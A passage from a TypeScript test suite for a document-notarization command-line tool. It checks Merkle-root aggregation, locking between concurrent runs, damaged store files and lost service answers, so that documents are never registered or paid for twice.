      args: (doc: string): string[] => ['register', doc, '--output', 'ndjson'],
      parse: parseNdjson,
    },
  ])(
    '$command waiting on a root another process is registering says so, naming the root and the document (r102, r104)',
    async ({ command, args, parse }) => {
      const tag = command.replace(/\W+/g, '-');
      const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, `${tag}-waits-`)) };
      const docs = await writeDocs(`${tag}-waits`, `${command} waits`, ['a', 'b']);
      const [a, b] = docs.map((path) => createHash('sha256').update(readFileSync(path)).digest('hex')) as [
        string,
        string,
      ];
      // complete --all: a has a session of its own, which a root planted over it would pay for twice.
      if (command === 'complete --all') {
        const own = await bed.main(['register', docs[0]!, '--no-complete', '--json'], { env });
        expect(own.code, describeRun(own)).toBe(0);
      }
      // This test process plays an aggregate at work on a tree over a and b: planted, its root's lock held.
      const store = new ServiceStore(storePaths(env.NOTARIZE_CONFIG_DIR, bed.url).service, bed.url);
      const tree = plantTree(
        [a, b].map((sha256, i) => ({ name: `leaf-${i}`, sha256, size: 1 })),
        undefined,
        new Date(),
      );
      await store.saveTree(tree.entry);
      const releaseRoot = await holdLock(store.lockFile(tree.entry.root), 0);
      // Held past the notice (3 s), then let go with the root unregistered, as by a run that failed.
      const run = await releasedOnNotice(args(docs[0]!), env, () => {
        store.removeTree(tree.entry.root);
        releaseRoot();
      });
      expect(run.code, describeRun(run)).toBe(0);
      expect(run.stderr).toMatch(
        new RegExp(
          `another notarize process \\(pid ${process.pid}\\) is registering the Merkle root ${tree.entry.root}, whose tree holds ${a}: waiting for it, up to \\d+ s more`,
        ),
      );
      expect(parse(run.stdout)).toMatchObject([{ hash: a, status: 'registered' }]);
    },
  );

  it('a document taken up by another process while the aggregate saves its tree is left out of it, and settled on its own', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'taken-up-')) };
    const docs = await writeDocs('taken-up', 'taken up', ['a', 'b', 'c']);
    const hashes = docs.map((path) => createHash('sha256').update(readFileSync(path)).digest('hex'));
    // A per-document run takes b's lock just as the tree (with b in it: its lock was free when looked at) is saved.
    let releaseB: (() => void) | undefined;
    const { saveTree } = Object.getOwnPropertyDescriptors(ServiceStore.prototype);
    const saved: number[] = [];
    const spy = vi.spyOn(ServiceStore.prototype, 'saveTree').mockImplementation(async function (
      this: ServiceStore,
      entry,
    ) {
      saved.push(entry.treeSize);
      if (saved.length === 1) releaseB = await holdLock(this.lockFile(hashes[1]!), 0);
      // Planted again without b: that run ends (with nothing paid: its request failed, say).
      else releaseB?.();
      return (saveTree.value as ServiceStore['saveTree']).call(this, entry);
    });
    const mark = bed.mark();
    let run;
    try {
      run = await bed.main(['register', '--aggregate', ...docs, '--json'], { env });
    } finally {
      spy.mockRestore();
      releaseB?.();
    }
    expect(run.code, describeRun(run)).toBe(0);
    expect(saved).toEqual([3, 2]);
    const results = parseResults(run.stdout);
    const root = results[0]!.proof!.root;
    expect(results.map((r) => [r.hash, r.status, r.proof?.root, r.proof?.treeSize])).toEqual([
      [hashes[0], 'registered', root, 2],
      [hashes[1], 'registered', undefined, undefined],
      [hashes[2], 'registered', root, 2],
    ]);
    // b is paid for once, on its own; the others once, under the root.
    const requests = bed.callsSince(mark).filter((call) => call.route === 'request');
    expect(requests.map((call) => [root, hashes[1]].find((h) => call.body.includes(h!)))).toEqual([root, hashes[1]]);
    expect(readdirSync(join(storePaths(env.NOTARIZE_CONFIG_DIR, bed.url).service, 'trees'))).toEqual([`${root}.json`]);
  });

  it('a document the aggregate settles on its own, planted over by another aggregate meanwhile: it waits, pays nothing, exit 4', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'own-way-tree-')) };
    const paths = storePaths(env.NOTARIZE_CONFIG_DIR, bed.url);
    const docs = await writeDocs('own-way-tree', 'own way', ['a', 'k']);
    const [, k] = docs.map((path) => createHash('sha256').update(readFileSync(path)).digest('hex')) as [string, string];
    const store = new ServiceStore(paths.service, bed.url);
    // k's lock held (a per-document run at work on it): the aggregate leaves k out, to settle after its root.
    const releaseK = await holdLock(store.lockFile(k), 0);
    const mark = bed.mark();
    const aggregate = bed.main(['register', '--aggregate', ...docs, '--output', 'ndjson'], { env });
    const forfaits = () => bed.callsSince(mark).filter((call) => call.route === 'forfait' && call.status > 0).length;
    for (let i = 0; i < 1000 && forfaits() < 1; i++) await new Promise((resolve) => setTimeout(resolve, 10));
    expect(forfaits()).toBe(1);
    // Another aggregate plants a tree over k; the run at work on k lets go of it, the aggregate takes k's lock.
    const root = await plantOverWhileLocked(store, [k], releaseK);
    const run = await aggregate;
    expect(run.code, describeRun(run)).toBe(4);
    expect(parseNdjson(run.stdout).map((r) => [r.status, r.error?.message])).toEqual([
      ['registered', undefined],
      ['failed', expect.stringContaining(`was placed under the Merkle root ${root} by another notarize process`)],
    ]);
    // Nothing was requested for k on its own.
    expect(bed.callsSince(mark).filter((call) => call.body.includes(k) || call.path.includes(k))).toEqual([]);
  });

  it('an aggregate and a per-document batch writing one --receipt-dir at once: both exit 0, every receipt verifies', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'shared-receipts-')) };
    const names = Array.from({ length: 40 }, (_, i) => `d${String(i).padStart(2, '0')}`);
    const docs = await writeDocs('shared-receipts', 'shared receipts', names);
    const folder = bed.path('shared-receipts');
    const receipts = bed.path('shared-receipts-out');
    const [aggregate, batch] = await Promise.all([
      bed.run(['register', '--aggregate', '-r', folder, '--receipt-dir', receipts, '--quiet'], { env }),
      bed.run(['register', '-j', '8', '-r', folder, '--receipt-dir', receipts, '--quiet'], { env }),
    ]);
    expect(aggregate.code, describeRun(aggregate)).toBe(0);
    expect(batch.code, describeRun(batch)).toBe(0);
    const verified = await bed.main(['verify', '-r', folder, '--receipt-dir', receipts, '--json']);
    expect(verified.code, describeRun(verified)).toBe(0);
    expect(countStatuses(parseResults(verified.stdout))).toEqual({ verified: docs.length });
    // Each receipt says the document's size, whichever run wrote it.
    for (const name of names) {
      const receipt = JSON.parse(
        readFileSync(join(receipts, `${name}.txt.notarization.json`), 'utf8'),
      ) as ReceiptFields;
      expect(receipt.document.size, name).toBe(readFileSync(join(folder, `${name}.txt`)).length);
    }
  });

  it("an aggregate's root request in flight in another process: per-document register waits for it, pays nothing", async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'race-root-')) };
    const paths = storePaths(env.NOTARIZE_CONFIG_DIR, bed.url);
    const docs = await writeDocs('race-root', 'root in flight', ['a', 'b']);
    const hash = createHash('sha256').update(readFileSync(docs[1]!)).digest('hex');
    bed.sandbox.addFaults(parseFaults('request:latency=700*1'));
    const mark = bed.mark();
    const aggregate = bed.run(['register', '--aggregate', ...docs, '--quiet'], { env });
    // Its tree planted, its root's lock taken (the request step in flight).
    const treesDir = join(paths.service, 'trees');
    const rootLocked = () =>
      existsSync(treesDir) &&
      readdirSync(treesDir).some(
        (name) => /^[0-9a-f]{64}\.json$/.test(name) && existsSync(paths.lock(name.slice(0, 64))),
      );
    // (Bounded at 10 s: a spawned process's start on a loaded machine; the window itself is the 700 ms.)
    for (let i = 0; i < 1000 && !rootLocked(); i++) await new Promise((resolve) => setTimeout(resolve, 10));
    expect(rootLocked()).toBe(true);
    const alone = await bed.main(['register', docs[1]!, '--output', 'ndjson'], { env });
    expect((await aggregate).code).toBe(0);
    expect(alone.code, describeRun(alone)).toBe(0);
    expect(parseNdjson(alone.stdout)[0]).toMatchObject({ hash, status: 'already-registered', proof: { treeSize: 2 } });
    expect(bed.callsSince(mark).map((c) => c.route)).toEqual(['login', 'request', 'forfait']);
  });

  it('a document under a registered root with a session of its own pending: the root answers, the session is pointed out', async () => {
    const p = await bed.write('under-and-own/p.txt', 'under a root and own\n');
    await bed.write('under-and-own/q.txt', 'beside it\n');
    expect((await bed.main(['register', '--no-complete', bed.path('under-and-own/p.txt'), '--quiet'])).code).toBe(0);
    // --force puts it in a root anyway: it is now under a registered root, its own session still pending.
    const forced = await bed.main(['register', '--aggregate', '--force', '-r', bed.path('under-and-own'), '--json']);
    expect(forced.code, describeRun(forced)).toBe(0);
    const root = parseResults(forced.stdout)[0]!.proof!.root;
    const mark = bed.mark();
    const again = await bed.main(['register', '--aggregate', '-r', bed.path('under-and-own'), '--json']);
    expect(again.code, describeRun(again)).toBe(0);
    expect(parseResults(again.stdout).map((r) => [r.status, r.proof?.root])).toEqual([
      ['already-registered', root],
      ['already-registered', root],
    ]);
    expect(again.stderr).toContain(
      `${p} also has a session of its own pending (register --no-complete): this run puts it under a Merkle root`,
    );
    expect(bed.callsSince(mark)).toEqual([]);
    // complete --all leaves that session out (its hash named, it is sent as asked).
    const all = await bed.main(['complete', '--all', '--json']);
    expect(all.code, describeRun(all)).toBe(0);
    expect(parseResults(all.stdout).find((r) => r.hash === p)).toMatchObject({
      status: 'skipped',
      reason: `left out: registered under the Merkle root ${root}, so completing its own session would pay a second time`,
    });
    expect(all.stderr).toContain(
      `${p} left out: under a Merkle root registered or pending, so completing its own session`,
    );
    expect(bed.callsSince(mark).filter((call) => call.path.includes(p))).toEqual([]);
    expect(bed.pendingHashes()).toContain(p);
    // `pending` says so too: not 'ready', which complete would send.
    const listed = await bed.main(['pending', '--json']);
    expect((JSON.parse(listed.stdout) as { hash: string; state: string }[]).find((r) => r.hash === p)).toMatchObject({
      state: 'under-root',
    });
    expect((await bed.main(['pending', 'drop', p])).code).toBe(0);
  });

  it('complete --all completes a pending root but not its documents own sessions; a damaged paid tree stops those', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'all-store-')) };
    const [a, b] = await writeDocs('all-pending', 'complete all', ['a', 'b']);
    expect((await bed.main(['register', '--no-complete', a!, b!, '--quiet'], { env })).code).toBe(0);
    // --force puts them under a root even so (without it, their own sessions would be completed instead).
    const left = await bed.main(['register', '--aggregate', '--force', '--no-complete', a!, b!, '--json'], { env });
    expect(left.code, describeRun(left)).toBe(0);
    const pendingRoot = parseResults(left.stdout)[0]!.proof!.root;
    const [da, db] = parseResults(left.stdout).map((r) => r.hash!);
    let mark = bed.mark();
    const all = await bed.main(['complete', '--all', '--json'], { env });
    expect(all.code, describeRun(all)).toBe(0);
    const results = parseResults(all.stdout);
    expect(results.find((r) => r.hash === pendingRoot)).toMatchObject({ status: 'registered' });
    for (const hash of [da, db]) {
      expect(results.find((r) => r.hash === hash)).toMatchObject({
        status: 'skipped',
        reason: `left out: a leaf of the Merkle root ${pendingRoot}, pending in this store, so completing its own session would pay a second time`,
      });
    }
    expect(
      bed
        .callsSince(mark)
        .filter((call) => call.route === 'forfait')
        .map((call) => call.path.includes(pendingRoot)),
    ).toEqual([true]);

    // The root's tree damaged: its documents' own sessions may be under a paid root, so they stop (exit 2, nothing sent).
    const stored = readdirSync(join(env.NOTARIZE_CONFIG_DIR, 'services')).map((service) =>
      join(env.NOTARIZE_CONFIG_DIR, 'services', service, 'trees', `${pendingRoot}.json`),
    )[0]!;
    writeFileSync(stored, '{"broken');
    mark = bed.mark();
    const stopped = await bed.main(['complete', '--all', '--json'], { env });
    expect(stopped.code, describeRun(stopped)).toBe(2);
    expect(
      parseResults(stopped.stdout)
        .map((r) => [r.hash, r.status])
        .sort(),
    ).toEqual(
      [
        [da, 'failed'],
        [db, 'failed'],
      ].sort(),
    );
    expect(parseResults(stopped.stdout)[0]!.error).toMatchObject({
      message: expect.stringContaining(`store file ${stored} is damaged`),
    });
    expect(bed.callsSince(mark)).toEqual([]);
    // pending says so, and names the file.
    const listed = await bed.main(['pending', '--json'], { env });
    expect(listed.code, describeRun(listed)).toBe(0);
    const states = (JSON.parse(listed.stdout) as { hash: string; state: string }[]).map((r) => [r.hash, r.state]);
    expect(states.sort()).toEqual(
      [
        [da, 'blocked'],
        [db, 'blocked'],
      ].sort(),
    );
    expect(listed.stderr).toContain(
      `sessions marked blocked are not completed by \`complete --all\`: store file ${stored}`,
    );
  });

  it("complete --all does not complete documents' own sessions beside the damaged tree of a root it completes", async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'all-damaged-')) };
    const [a, b] = await writeDocs('all-damaged', 'complete all, damaged pending tree', ['a', 'b']);
    expect((await bed.main(['register', '--no-complete', a!, b!, '--quiet'], { env })).code).toBe(0);
    // --force puts them under a root even so (without it, their own sessions would be completed instead).
    const left = await bed.main(['register', '--aggregate', '--force', '--no-complete', a!, b!, '--json'], { env });
    expect(left.code, describeRun(left)).toBe(0);
    const pendingRoot = parseResults(left.stdout)[0]!.proof!.root;
    writeFileSync(join(storePaths(env.NOTARIZE_CONFIG_DIR, bed.url).service, 'trees', `${pendingRoot}.json`), '{"cut');
    const mark = bed.mark();
    const all = await bed.main(['complete', '--all', '--json'], { env });
    expect(all.code, describeRun(all)).toBe(1);
    const results = parseResults(all.stdout);
    expect(results.find((r) => r.hash === pendingRoot)).toMatchObject({ status: 'registered' });
    expect(results.filter((r) => r.status === 'failed')).toHaveLength(2);
    const forfaits = bed.callsSince(mark).filter((call) => call.route === 'forfait');
    expect(forfaits.map((call) => call.path.includes(pendingRoot))).toEqual([true]);
  });

  it('--fail-fast checks the manifest place of a pending root before anything is sent', async () => {
    const [p1] = await writeDocs('ff-manifest', 'fail-fast, pending root', ['p1', 'p2']);
    const [fresh] = await writeDocs('ff-fresh', 'fail-fast, on its own', ['n1']);
    const left = await bed.main(['register', '--aggregate', '--no-complete', '-r', bed.path('ff-manifest'), '--json']);
    expect(left.code, describeRun(left)).toBe(0);
    const pendingRoot = parseResults(left.stdout)[0]!.proof!.root;
    onTestFinished(async () => void (await bed.main(['pending', 'drop', pendingRoot])));
    const receipts = bed.path('ff-receipts');
    mkdirSync(join(receipts, `${pendingRoot}.tree.json`), { recursive: true });
    const mark = bed.mark();
    const run = await bed.main([
      'register',
      '-j',
      '1',
      '--fail-fast',
      '--receipt-dir',
      receipts,
      fresh!,
      p1!,
      '--json',
    ]);
    expect(run.code, describeRun(run)).toBe(2);
    expect(bed.callsSince(mark)).toEqual([]);
  });

  it('a damaged record of a document stops --fail-fast before anything is sent; a damaged tree stops any run', async () => {
    const a = await bed.write('own-damaged/a.txt', 'registered alone, its record then damaged\n');
    const b = await bed.write('own-damaged/b.txt', 'for a tree\n');
    expect((await bed.main(['register', bed.path('own-damaged/a.txt'), '--quiet'])).code).toBe(0);
    const record = join(bed.serviceDir(), 'ledger', `${a}.json`);
    const intact = readFileSync(record);
    onTestFinished(() => writeFileSync(record, intact));
    writeFileSync(record, '{"broken');
    let mark = bed.mark();
    const fast = await bed.main(['register', '--aggregate', '--fail-fast', '-r', bed.path('own-damaged'), '--json']);
    expect(fast.code, describeRun(fast)).toBe(2);
    expect(parseResults(fast.stdout).map((r) => [r.hash, r.status])).toEqual([
      [a, 'failed'],
      [b, 'skipped'],
    ]);
    expect(bed.callsSince(mark)).toEqual([]);
    writeFileSync(record, intact);

    // A damaged tree anywhere in the store: nothing is sent (exit 2), a session of its own or not.
    const root = (await bed.main(['register', '--aggregate', bed.path('own-damaged/b.txt'), '--json'])).stdout;
    const treeFile = join(bed.serviceDir(), 'trees', `${parseResults(root)[0]!.proof!.root}.json`);
    const tree = readFileSync(treeFile);
    onTestFinished(() => writeFileSync(treeFile, tree));
    const c = await bed.write('own-damaged/c.txt', 'own session beside a damaged tree\n');
    expect((await bed.main(['register', '--no-complete', bed.path('own-damaged/c.txt'), '--quiet'])).code).toBe(0);
    writeFileSync(treeFile, '{"broken');
    mark = bed.mark();
    const stopped = await bed.main(['register', '--aggregate', bed.path('own-damaged/c.txt'), '--json']);
    expect(stopped.code, describeRun(stopped)).toBe(2);
    expect(stopped.stderr).toContain(`store file ${treeFile} is damaged`);
    expect(bed.callsSince(mark)).toEqual([]);
    writeFileSync(treeFile, tree);
    expect((await bed.main(['pending', 'drop', c])).code).toBe(0);
  });

  it('a document the service confirmed by a 409 to its own completion stays out of the tree: nothing paid', async () => {
    const confirmed = await bed.write('confirmed-alone/a.txt', 'completed elsewhere, 409 here\n');
    await bed.write('confirmed-alone/b.txt', 'beside the confirmed one\n');
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    // Its completion went through but the answer was lost; the next completion is told 409.
    expect((await bed.main(['register', bed.path('confirmed-alone/a.txt'), '--quiet'])).code).toBe(4);
    expect((await bed.main(['complete', confirmed, '--quiet'])).code).toBe(0);
    const receipts = bed.path('confirmed-alone-receipts');
    const mark = bed.mark();
    const run = await bed.main([
      'register',
      '--aggregate',
      '-r',
      bed.path('confirmed-alone'),
      '--receipt-dir',
      receipts,
      '--json',
    ]);
    expect(run.code, describeRun(run)).toBe(0);
    const [a, b] = parseResults(run.stdout);
    expect(a).toMatchObject({ status: 'already-registered', hash: confirmed, record: null });
    expect(a).not.toHaveProperty('proof');
    expect(b).toMatchObject({ status: 'registered', proof: { treeSize: 1 } });
    expect(run.stderr).toContain(`no receipt written for ${confirmed}: the service answered 409 for it before`);
    expect(bed.requestedHashes().slice(-1)).not.toContain(confirmed);
    expect(bed.callsSince(mark).filter((c) => c.route === 'forfait')).toHaveLength(1);
  });

  it('documents registered one by one, then put in an aggregate: already-registered each, no root bought for them', async () => {
    const a = await bed.write('solo/a.txt', 'solo a\n');
    const b = await bed.write('solo/b.txt', 'solo b\n');
    const solo = await bed.main(['register', bed.path('solo/a.txt'), bed.path('solo/b.txt'), '--quiet']);
    expect(solo.code, describeRun(solo)).toBe(0);
    const receipts = bed.path('solo-receipts');
    const mark = bed.mark();
    const run = await bed.main([
      'register',
      '--aggregate',
      bed.path('solo/a.txt'),
      bed.path('solo/b.txt'),
      '--receipt-dir',
      receipts,
      '--json',
    ]);
    expect(run.code, describeRun(run)).toBe(0);
    expect(bed.callsSince(mark)).toEqual([]);
    const results = parseResults(run.stdout);
    expect(results).toMatchObject([
      { status: 'already-registered', hash: a, record: { hash: a } },
      { status: 'already-registered', hash: b, record: { hash: b } },
    ]);
    expect(results[0]).not.toHaveProperty('proof');
    // Their receipts, as per-document registration writes them (no proof), and no tree manifest.
    expect(readdirSync(receipts).sort()).toEqual(['a.txt.notarization.json', 'b.txt.notarization.json']);
    const receipt = JSON.parse(readFileSync(join(receipts, 'a.txt.notarization.json'), 'utf8')) as ReceiptFields;
    expect(receipt).toMatchObject({ document: { sha256: a }, record: { hash: a }, proof: null });

    // With a newcomer, only the newcomer goes under a new root.
    const c = await bed.write('solo/c.txt', 'solo c\n');
    const more = await bed.main(['register', '--aggregate', '-r', bed.path('solo'), '--json']);
    expect(more.code, describeRun(more)).toBe(0);
    const byHash = new Map(parseResults(more.stdout).map((r) => [r.hash, r]));
    expect(byHash.get(c)).toMatchObject({ status: 'registered', proof: { treeSize: 1 } });
    expect(byHash.get(a)).toMatchObject({ status: 'already-registered' });
    expect(bed.callsSince(mark).map((call) => call.route)).toEqual(['request', 'forfait']);
  });
});

describe('register --aggregate refuses, before anything is sent', () => {
  it.each([
    ['--hash', ['--hash', 'a'.repeat(64), '-d', 'x']],
    ['--custody', ['--custody', 'FILE']],
    ["'-'", ['-', '-d', 'x']],
  ])('%s: exit 2, one line saying so, no call', async (what, extra) => {
    const file = await bed.file('refused.txt');
    const mark = bed.mark();
    const run = await bed.main(['register', '--aggregate', ...extra.map((a) => (a === 'FILE' ? file : a))], {
      input: 'x',
    });
    expect(run.code, describeRun(run)).toBe(2);
    expect(run.stderr).toContain(`--aggregate cannot be used with ${what}`);
    expect(bed.callsSince(mark)).toEqual([]);
  });

  it('a document that cannot be read fails alone; the others are registered under one root (exit 1: something was sent)', async () => {
    const { run, routes } = await withOneMissing('partial', []);
    expect(run.code, describeRun(run)).toBe(1);
    expect(parseResults(run.stdout).map((r) => r.status)).toEqual(['registered', 'failed']);
    expect(routes).toEqual(['request', 'forfait']);
  });
});

describe('register --aggregate never pays twice, nor lies, when the store or the receipt folder is not as it left them', () => {
  /** Registers `names` (new files under `folder`) with --aggregate and returns the root and the tree's file. */
  async function aggregated(folder: string, names: string[], extra: string[] = []) {
    for (const name of names) await bed.write(`${folder}/${name}`, `${folder} ${name}\n`);
    const run = await bed.main(['register', '--aggregate', '-r', bed.path(folder), '--json', ...extra]);
    expect(run.code, describeRun(run)).toBe(0);
    const rootOf = parseResults(run.stdout)[0]!.proof!.root;
    return { root: rootOf, treeFile: join(bed.serviceDir(), 'trees', `${rootOf}.json`) };
  }

  it('a tree whose leaves changed: exit 2, nothing sent, the file named; every aggregate run stops until it is restored', async () => {
    const { treeFile } = await aggregated('salted', ['a.txt', 'b.txt']);
    const text = readFileSync(treeFile, 'utf8');
    const salt = /"salt":"([0-9a-f]{64})"/.exec(text)![1]!;
    writeFileSync(treeFile, text.replace(salt, 'e'.repeat(64)));
    await bed.write('salted/c.txt', 'a newcomer beside a damaged tree\n');
    const mark = bed.mark();
    const run = await bed.main(['register', '--aggregate', '-r', bed.path('salted'), '--json']);
    expect(run.code, describeRun(run)).toBe(2);
    expect(run.stderr).toContain(`${treeFile} is damaged (its leaves are not those it was written with`);
    expect(bed.callsSince(mark)).toEqual([]);
    // verify warns of it, and the documents are no longer verified by that tree.
    const verify = await bed.main(['verify', bed.path('salted/a.txt'), '--output', 'ndjson']);
    expect(verify.stderr).toContain(`${treeFile} is damaged`);
    expect(parseNdjson(verify.stdout)[0]!.status).not.toBe('verified');
    // A tree that may have lost a leaf could hold any document: other runs stop too, until it is restored.
    const other = await bed.main(['register', '--aggregate', bed.path('salted/c.txt'), '--json']);
    expect(other.code).toBe(2);
    writeFileSync(treeFile, text);
  });

  it("a leaf of a tree that does not make its root names no file: verify says unknown, not 'modified'", async () => {
    // Names no other test gives a document: in this store, only this tree's leaf could name them.
    const { treeFile } = await aggregated('renamed-leaf', ['leaf-a.txt', 'leaf-b.txt']);
    const tree = JSON.parse(readFileSync(treeFile, 'utf8')) as { leaves: { sha256: string }[]; leavesSha256?: string };
    const b = tree.leaves[1]!.sha256;
    // Another digest for leaf-b.txt, and no digest of the leaf lines: only the fold can tell.
    tree.leaves[1]!.sha256 = 'e'.repeat(64);
    delete tree.leavesSha256;
    const text = readFileSync(treeFile, 'utf8');
    writeFileSync(treeFile, JSON.stringify(tree));
    const verify = await bed.main(['verify', bed.path('renamed-leaf/leaf-b.txt'), '--output', 'ndjson']);
    expect(verify.code, describeRun(verify)).toBe(6);
    expect(parseNdjson(verify.stdout)[0]).toMatchObject({ hash: b, status: 'unknown' });
    writeFileSync(treeFile, text);
  });

  it('a tree file cut short, or its root record damaged: exit 2, nothing sent, never a second root', async () => {
    const first = await aggregated('cut', ['a.txt', 'b.txt'], ['--no-complete']);
    writeFileSync(first.treeFile, readFileSync(first.treeFile, 'utf8').slice(0, 200));
    let mark = bed.mark();
    let run = await bed.main(['register', '--aggregate', '-r', bed.path('cut'), '--json']);
    expect(run.code, describeRun(run)).toBe(2);
    expect(run.stderr).toContain(`store file ${first.treeFile} is damaged`);
    expect(run.stderr).toContain('register stops rather than register them again');
    expect(bed.callsSince(mark)).toEqual([]);
    // An unreadable tree may hold any document: until it is repaired (here: removed), every aggregate run stops.
    rmSync(first.treeFile);

    const second = await aggregated('broken-record', ['x.txt']);
    writeFileSync(join(bed.serviceDir(), 'ledger', `${second.root}.json`), '{"broken');
    mark = bed.mark();
    run = await bed.main(['register', '--aggregate', '-r', bed.path('broken-record'), '--json']);
    expect(run.code, describeRun(run)).toBe(2);
    expect(run.stderr).toContain(`${second.root}.json is damaged`);
    expect(bed.callsSince(mark)).toEqual([]);
    rmSync(join(bed.serviceDir(), 'ledger', `${second.root}.json`));
    rmSync(second.treeFile);
  });

  it('per-document register stops at a damaged tree of a paid root, not of one never paid', async () => {
    await bed.write('alone/new.txt', 'beside two damaged trees, on its own\n');
    const paid = await aggregated('paid-cut', ['a.txt']);
    const unpaid = await aggregated('unpaid-cut', ['a.txt'], ['--no-complete']);
    // Intact, pending: its document would be paid for (with its root) as much as one under no tree.
    const pendingIntact = await aggregated('pending-intact', ['b.txt'], ['--no-complete']);
    onTestFinished(async () => void (await bed.main(['pending', 'drop', pendingIntact.root])));
    const intact = { paid: readFileSync(paid.treeFile), unpaid: readFileSync(unpaid.treeFile) };
    // The later tests of this file need the store's trees whole again, whatever happens here.
    onTestFinished(() => {
      writeFileSync(paid.treeFile, intact.paid);
      writeFileSync(unpaid.treeFile, intact.unpaid);
    });
    // A root left pending, its tree cut short: it paid for nothing, and stops nothing here.
    writeFileSync(unpaid.treeFile, readFileSync(unpaid.treeFile, 'utf8').slice(0, 200));
    // A registered root, its tree cut short: it may hold the document, so the document stops (exit 2, nothing sent).
    writeFileSync(paid.treeFile, readFileSync(paid.treeFile, 'utf8').slice(0, 200));
    let mark = bed.mark();
    const stopped = await bed.main(['register', bed.path('alone/new.txt'), '--json']);
    expect(stopped.code, describeRun(stopped)).toBe(2);
    expect(stopped.stderr).toContain(`store file ${paid.treeFile} is damaged`);
    expect(stopped.stderr).toContain('register stops rather than register them again');
    const underPending = await bed.main(['register', bed.path('pending-intact/b.txt'), '--json']);
    expect(underPending.code, describeRun(underPending)).toBe(2);
    expect(underPending.stderr).toContain(`store file ${paid.treeFile} is damaged`);
    expect(bed.callsSince(mark)).toEqual([]);
    writeFileSync(paid.treeFile, intact.paid);
    writeFileSync(unpaid.treeFile, intact.unpaid);

    // A root whose completion went out and whose answer could not be read may be paid: its damaged tree stops too.
    await bed.write('unread-cut/a.txt', 'unread-cut a.txt\n');
    bed.sandbox.addFaults(parseFaults('forfait:truncated*1'));
    const unread = await bed.main(['register', '--aggregate', '-r', bed.path('unread-cut'), '--json']);
    expect(unread.code, describeRun(unread)).toBe(5);
    const unreadTree = join(bed.serviceDir(), 'trees', `${bed.requestedHashes().at(-1)}.json`);
    const unreadText = readFileSync(unreadTree);
    onTestFinished(() => writeFileSync(unreadTree, unreadText));
    writeFileSync(unreadTree, '{"broken');
    mark = bed.mark();
    const stillStopped = await bed.main(['register', bed.path('alone/new.txt'), '--json']);
    expect(stillStopped.code, describeRun(stillStopped)).toBe(2);
    expect(stillStopped.stderr).toContain(`store file ${unreadTree} is damaged`);
    expect(bed.callsSince(mark)).toEqual([]);
    writeFileSync(unreadTree, unreadText);

    mark = bed.mark();
    const goes = await bed.main(['register', bed.path('alone/new.txt'), '--json']);
    expect(goes.code, describeRun(goes)).toBe(0);
    expect(bed.callsSince(mark).map((c) => c.route)).toEqual(['request', 'forfait']);
  });

  it('a forfait whose answer was lost: the 409 of the next run is final, and later runs send nothing', async () => {
    await bed.write('lost/a.txt', 'lost answer a\n');
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    const first = await bed.main(['register', '--aggregate', '-r', bed.path('lost'), '--json']);
    expect(first.code, describeRun(first)).toBe(4);
    const second = await bed.main(['register', '--aggregate', '-r', bed.path('lost'), '--json']);
    expect(second.code, describeRun(second)).toBe(0);
    expect(parseResults(second.stdout)[0]).toMatchObject({ status: 'already-registered', record: null });
    const mark = bed.mark();
    const third = await bed.main(['register', '--aggregate', '-r', bed.path('lost'), '--json']);
    expect(third.code, describeRun(third)).toBe(0);
    expect(parseResults(third.stdout)[0]).toMatchObject({
      status: 'already-registered',
      record: null,
      message: expect.stringContaining('answered 409 for this root before'),
    });
    expect(bed.callsSince(mark)).toEqual([]);
    // verify cannot call it verified (no record here), but says why, not just "unknown".
    const verify = await bed.main(['verify', bed.path('lost/a.txt'), '--json']);
    expect(verify.code, describeRun(verify)).toBe(6);
    const root = parseResults(third.stdout)[0]!.proof!.root;
    expect(parseResults(verify.stdout)[0]).toMatchObject({
      status: 'unknown',
      reason: expect.stringContaining(
        `the service said it has the Merkle root ${root} that holds it (a 409), but this store never received the record`,
      ),
    });
  });

  it('--fail-fast: a document that cannot be hashed stops the run before anything is sent', async () => {
    const { run, routes } = await withOneMissing('fast', ['--fail-fast']);
    expect(run.code, describeRun(run)).toBe(2);
    expect(parseResults(run.stdout).map((r) => r.status)).toEqual(['skipped', 'failed']);
    expect(routes).toEqual([]);
  });

  it('a folder where the tree manifest goes is refused before the pending root is completed', async () => {
    const { root } = await aggregated('manifest', ['a.txt'], ['--no-complete']);
    mkdirSync(bed.path(`manifest-receipts/${root}.tree.json`), { recursive: true });
    const mark = bed.mark();
    const args = [
      'register',
      '--aggregate',
      '-r',
      bed.path('manifest'),
      '--receipt-dir',
      bed.path('manifest-receipts'),
    ];
    const run = await bed.main([...args, '--json']);
    expect(run.code, describeRun(run)).toBe(2);
    expect(run.stderr).toContain('exists and is not a regular file');
    expect(bed.callsSince(mark)).toEqual([]);
  });

  it('--force never replaces a pending root: it is completed, not requested anew', async () => {
    const { root } = await aggregated('forced', ['a.txt', 'b.txt'], ['--no-complete']);
    const mark = bed.mark();
    const run = await bed.main(['register', '--aggregate', '--force', '-r', bed.path('forced'), '--json']);
    expect(run.code, describeRun(run)).toBe(0);
    expect(bed.callsSince(mark).map((c) => c.route)).toEqual(['forfait']);
    expect(parseResults(run.stdout).every((r) => r.status === 'registered' && r.proof!.root === root)).toBe(true);
  });
});

describe('register --aggregate, second review', () => {
  it('--fail-fast: once a root fails, no later root is sent; the skipped documents keep their hashes', async () => {
    await bed.write('ff/a.txt', 'fail fast root a\n');
    await bed.write('ff/b.txt', 'fail fast root b\n');
    const held = await bed.main(['register', '--aggregate', '--no-complete', '-r', bed.path('ff'), '--json']);
    expect(held.code, describeRun(held)).toBe(0);
    const c = await bed.write('ff-new/c.txt', 'a newcomer after a failing root\n');
    bed.sandbox.addFaults(parseFaults('forfait:status=400*1'));
    const mark = bed.mark();
    const args = ['register', '--aggregate', '--fail-fast', '-r', bed.path('ff'), bed.path('ff-new/c.txt')];
    const run = await bed.main([...args, '--json']);
    expect(bed.callsSince(mark).map((call) => `${call.route}:${call.status}`)).toEqual(['forfait:400']);
